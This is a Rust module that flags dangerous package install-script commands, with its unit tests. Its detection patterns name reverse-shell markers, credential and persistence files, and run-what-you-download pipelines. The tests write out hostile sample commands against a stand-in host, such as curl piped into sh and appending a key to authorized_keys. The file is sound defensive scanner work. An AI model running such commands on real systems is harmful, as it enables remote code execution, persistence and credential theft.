//! Commands of lifecycle scripts, judged by their own words.
//!
//! No shell grammar: what is told apart is what nobody needs to say in a command that installs a package. The programs
//! that a command runs are artifacts of their own.

/// What a command is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Judgement {
    /// It does what no installation needs.
    Dangerous(&'static str),
    /// It fetches something by itself.
    Downloads(&'static str),
    /// Neither.
    Plain,
}

/// A program text on the command line longer than this is a program that hides there.
const LONG_PROGRAM: usize = 400;

/// Judges a command.
pub(super) fn judge(command: &str) -> Judgement {
    let text = command.to_ascii_lowercase();
    let has = |needle: &str| text.contains(needle);
    let word = |name: &str| words(&text).any(|w| w == name);
    let fetches = [
        "curl",
        "wget",
        "iwr",
        "invoke-webrequest",
        "invoke-restmethod",
        "certutil",
        "bitsadmin",
    ]
    .into_iter()
    .any(word)
        || has("downloadstring")
        || has("downloadfile");
    let piped = text.split('|').skip(1).any(|part| {
        let first = part
            .trim_start()
            .trim_start_matches("sudo ")
            .split_whitespace()
            .next()
            .unwrap_or_default();
        matches!(
            first.rsplit('/').next().unwrap_or_default(),
            "sh" | "bash" | "zsh" | "dash" | "node" | "python" | "python3" | "perl" | "iex" | "cmd"
        )
    });
    let substituted = ["$(curl", "`curl", "$(wget", "`wget", "<(curl", "<(wget"]
        .into_iter()
        .any(has);
    if (fetches && piped) || substituted || (fetches && has("iex")) {
        return Judgement::Dangerous("runs what it downloads");
    }
    let decodes =
        has("base64 -d") || has("base64 --decode") || has("base64 -D") || has("xxd -r") || has("frombase64string");
    if decodes
        || (word("powershell") || word("powershell.exe") || word("pwsh"))
            && (has(" -enc") || has(" -e ") || has("-encodedcommand"))
    {
        return Judgement::Dangerous("runs what it decodes");
    }
    if let Some(program) = inline_program(command) {
        let lower = program.to_ascii_lowercase();
        if program.len() > LONG_PROGRAM {
            return Judgement::Dangerous("carries a long program on its command line");
        }
        if ["eval(", "base64", "atob(", "fromcharcode", "new function", "\\x"]
            .into_iter()
            .any(|n| lower.contains(n))
        {
            return Judgement::Dangerous("runs what it decodes");
        }
        if [
            "require('http",
            "require(\"http",
            "require('node:http",
            "http.get",
            "https.get",
            "https.request",
            "http.request",
            "fetch(",
            "net.connect",
            "dns.lookup",
        ]
        .into_iter()
        .any(|n| lower.contains(n))
        {
            return Judgement::Dangerous("talks to a host from its command line");
        }
    }
    let places = [
        ".ssh",
        "authorized_keys",
        ".bashrc",
        ".zshrc",
        ".bash_profile",
        ".aws/",
        ".npmrc",
        "/etc/cron",
        "crontab",
        "/etc/passwd",
        "/etc/shadow",
        "launchagents",
        "\\currentversion\\run",
        ".git/hooks",
    ];
    if places.into_iter().any(has) {
        return Judgement::Dangerous("touches files of the user or of the system");
    }
    if has("/dev/tcp/") || has("nc -e") || has("ncat ") || has("mkfifo") {
        return Judgement::Dangerous("opens a shell to somebody else");
    }
    if has("rm -rf /") || has("rm -rf ~") || has("rm -rf $home") {
        return Judgement::Dangerous("deletes files of the user");
    }
    if fetches {
        return Judgement::Downloads("downloads something by itself");
    }
    Judgement::Plain
}

fn words(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| c.is_whitespace() || ";|&()<>\"'`$=".contains(c))
        .map(|w| w.rsplit('/').next().unwrap_or(w))
}

/// The text behind `node -e`, `python -c`, `sh -c` and the like.
fn inline_program(command: &str) -> Option<&str> {
    let mut last = "";
    let mut end = 0usize;
    for part in command.split_inclusive(char::is_whitespace) {
        let word = part.trim();
        end = end.saturating_add(part.len());
        let runs = matches!(
            (last.rsplit('/').next().unwrap_or_default(), word),
            ("node" | "bun" | "deno", "-e" | "--eval" | "-p" | "-pe" | "eval")
                | ("python" | "python3", "-c")
                | ("perl" | "ruby", "-e")
        );
        if runs {
            return command.get(end..);
        }
        if !word.is_empty() {
            last = word;
        }
    }
    None
}

/// The file that a command runs, when it is a single `node FILE`, `sh FILE` or `./FILE`.
pub(super) fn script(command: &str) -> Option<String> {
    let first = command.split("&&").next()?.split([';', '|']).next()?;
    let mut words = first.split_whitespace().map(|w| w.trim_matches(['"', '\'']));
    let program = words.next()?;
    let file = match program.rsplit('/').next()? {
        "node" | "sh" | "bash" | "python" | "python3" => {
            words.find(|w| !w.starts_with('-') || matches!(*w, "-e" | "-c" | "-p" | "-r" | "--eval" | "--require"))?
        }
        _ if program.starts_with("./") => program,
        _ => return None,
    };
    let plain = !file.is_empty()
        && !file.starts_with('-')
        && file.chars().all(|c| c.is_ascii_alphanumeric() || "-_./@".contains(c));
    plain.then(|| file.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_are_told_apart() {
        for (command, expected) in [
            ("node install.js", "plain"),
            ("prebuild-install || node-gyp rebuild --release", "plain"),
            ("node install/check.js", "plain"),
            ("node -e \"try{require('./postinstall')}catch(e){}\"", "plain"),
            ("husky install", "plain"),
            ("npx only-allow pnpm", "plain"),
            ("curl -sL example.test/x | sh", "dangerous"),
            ("curl -sL example.test/x | sudo bash -", "dangerous"),
            ("sh -c \"$(curl -fsSL example.test/x)\"", "dangerous"),
            ("powershell -enc AAAA", "dangerous"),
            ("echo dHJ1ZQ== | base64 -d | sh", "dangerous"),
            (
                "node -e \"eval(Buffer.from('dHJ1ZQ==','base64').toString())\"",
                "dangerous",
            ),
            ("node -e \"require('https').get('x')\"", "dangerous"),
            ("cat key >> ~/.ssh/authorized_keys", "dangerous"),
            ("wget example.test/x.tgz", "downloads"),
            ("node ./scripts/curling.js", "plain"),
        ] {
            let found = match judge(command) {
                Judgement::Dangerous(_) => "dangerous",
                Judgement::Downloads(_) => "downloads",
                Judgement::Plain => "plain",
            };
            assert_eq!(found, expected, "{command}");
        }
        let long = format!("node -e \"{}\"", "1;".repeat(300));
        assert!(matches!(judge(&long), Judgement::Dangerous(_)));
    }

    #[test]
    fn the_file_a_command_runs_is_found() {
        for (command, expected) in [
            ("node install.js", Some("install.js")),
            ("node ./lib/install && true", Some("./lib/install")),
            ("./configure.sh --x", Some("./configure.sh")),
            ("node -e 1", None),
            ("node -r ./x y.js", None),
            ("node-gyp rebuild", None),
            ("node $X", None),
        ] {
            assert_eq!(script(command).as_deref(), expected, "{command}");
        }
    }
}
